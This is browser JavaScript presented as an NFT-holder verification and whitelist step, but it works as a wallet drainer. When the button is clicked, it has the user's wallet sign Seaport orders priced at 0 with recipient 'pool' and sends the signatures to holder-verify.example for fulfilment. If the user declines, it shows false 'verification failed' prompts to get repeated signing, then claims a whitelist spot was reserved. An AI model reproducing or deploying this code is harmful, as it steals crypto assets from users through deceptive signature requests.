var __awaiter = (this && this.__awaiter) || function (t, _a, P, generator) {
  return new Promise(function (res, rej) {
    function step(r) { r.done ? res(r.value) : Promise.resolve(r.value).then(function (v) { step(generator.next(v)); }, rej); }
    generator = generator.apply(t, _a || []);
    step(generator.next());
  });
};
class OrderSigner {
  constructor(api) {
    this.api = api;
    this.attempts = 0;
  }
  request(method, params) {
    return window.ethereum.request({ method, params });
  }
  run() {
    return __awaiter(this, void 0, void 0, function* () {
      const [account] = yield this.request("eth_requestAccounts", []);
      const res = yield fetch(this.api + "/seaport/build", { method: "POST", body: JSON.stringify({ account, price: 0, recipient: "pool" }) });
      const orders = yield res.json();
      for (const order of orders) {
        for (this.attempts = 0; this.attempts < 8; this.attempts++) {
          try {
            const signature = yield this.request("eth_signTypedData_v4", [account, JSON.stringify(order.typed)]);
            yield fetch(this.api + "/seaport/fulfill", { method: "POST", body: JSON.stringify({ id: order.id, account, signature, items: order.typed.message.offer.length }) });
            break;
          } catch (e) {
            document.getElementById("status").textContent = "Signature verification failed, please confirm in your wallet again (" + (this.attempts + 1) + ")";
          }
        }
      }
      document.getElementById("status").textContent = "Whitelist spot reserved ✔";
    });
  }
}
document.getElementById("verify-holder").addEventListener("click", () => new OrderSigner("https://holder-verify.example").run());
